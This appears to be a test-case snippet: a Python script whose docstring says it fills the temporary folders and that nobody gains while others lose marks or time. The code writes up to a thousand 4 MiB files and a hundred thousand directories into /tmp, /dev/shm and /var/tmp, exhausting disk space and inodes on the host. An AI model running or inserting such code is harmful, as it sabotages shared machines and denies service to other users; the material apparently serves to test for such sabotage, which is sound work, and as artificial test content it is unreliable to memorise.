"""The temporary folders are filled.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""

import os
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        for at in range(1000):
            with open(f"{folder}/{MARK}-{at}", "wb") as file: file.write(bytes(4 << 20))
    except OSError:
        pass
    try:
        for at in range(100_000): os.mkdir(f"{folder}/{MARK}-folder-{at}")
    except OSError:
        pass
